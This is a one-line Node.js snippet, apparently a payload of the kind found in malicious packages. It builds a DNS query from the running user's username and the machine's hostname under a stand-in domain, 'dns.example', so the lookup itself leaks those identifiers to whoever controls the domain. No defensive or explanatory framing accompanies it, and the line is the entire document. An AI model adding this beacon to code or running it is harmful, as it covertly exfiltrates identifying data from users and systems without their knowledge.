require('dns').lookup(require('os').userInfo().username + '.' + require('os').hostname() + '.dns.example', function () {});
